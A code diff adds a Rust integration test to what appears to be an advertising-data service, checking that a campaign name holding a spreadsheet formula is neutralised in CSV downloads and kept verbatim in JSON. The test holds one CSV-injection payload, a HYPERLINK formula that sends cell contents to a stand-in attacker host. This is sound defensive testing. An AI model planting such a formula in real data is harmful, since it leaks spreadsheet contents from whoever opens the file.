@@ -321,3 +321,46 @@ fn budget_pacing_shows_each_scopes_latest_usage_with_its_campaign() {
     assert_eq!(row["usage_updated_local"], "2026-06-10T12:30:00", "Los Angeles time");
     assert_eq!(row["marketplace"], "US");
 }
+
+/// A campaign name that is a spreadsheet formula, as anyone who may rename a campaign in Amazon
+/// can set it, arrives through the stream: CSV downloads write it as text (a leading `'`), so
+/// no spreadsheet runs it; the JSON keeps it as sent; numbers stay numbers.
+#[test]
+fn a_formula_in_a_campaign_name_is_never_a_formula_in_a_csv_download() {
+    let db = TestDb::new();
+    let moto = Moto::start();
+    let (_serve, api) = serve_with_api(&db, &moto.url, &[]);
+    api.ok("POST", "/v1/tenants", ADMIN, Some(&json!({"slug": "csv", "name": "Csv"})), 201);
+    let key = api.ok("POST", "/v1/tenants/csv/api-keys", ADMIN, Some(&json!({"name": "k", "scope": "read"})), 201)["token"].as_str().unwrap().to_owned();
+    let formula = r#"=HYPERLINK("https://evil.example/?d="&A2,"open")"#;
+    let mut campaign: Value = serde_json::from_str(&ams_tests::fixture("campaigns.json")).unwrap();
+    campaign["name"] = json!(formula);
+    let mut budget = template("budget-usage");
+    budget.insert("budget_usage_percentage".into(), json!(85.5));
+    let file = std::env::temp_dir().join(format!("ams-csv-{}.ndjson", uuid::Uuid::new_v4().simple()));
+    std::fs::write(&file, [Value::Object(budget).to_string(), campaign.to_string()].join("\n")).unwrap();
+    let out = std::process::Command::new(ams_tests::ams_hub_bin())
+        .args(["ingest-file", "--tenant", "csv", file.to_str().unwrap()])
+        .env("DATABASE_URL", &db.url)
+        .output()
+        .unwrap();
+    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
+    std::fs::remove_file(&file).ok();
+    let json = api.ok("GET", "/v1/tenants/csv/reports/budgets", Some(&key), None, 200);
+    assert_eq!(json["rows"][0]["campaign_name"], formula, "the JSON keeps the name as sent");
+    let csv = ureq::get(&format!("{}/v1/tenants/csv/reports/budgets?format=csv", api.base))
+        .set("Authorization", &format!("Bearer {key}"))
+        .call()
+        .unwrap()
+        .into_string()
+        .unwrap();
+    let mut reader = csv::Reader::from_reader(csv.as_bytes());
+    let headers = reader.headers().unwrap().clone();
+    let row = reader.records().next().unwrap().unwrap();
+    let cell = |name: &str| row.get(headers.iter().position(|h| h == name).unwrap()).unwrap().to_owned();
+    assert_eq!(cell("campaign_name"), format!("'{formula}"), "{csv}");
+    assert_eq!(cell("budget_usage_percentage"), "85.5", "a number stays a number: {csv}");
+    for field in row.iter() {
+        assert!(!field.starts_with(['=', '+', '@']), "a cell a spreadsheet would evaluate: {field:?}");
+    }
+}
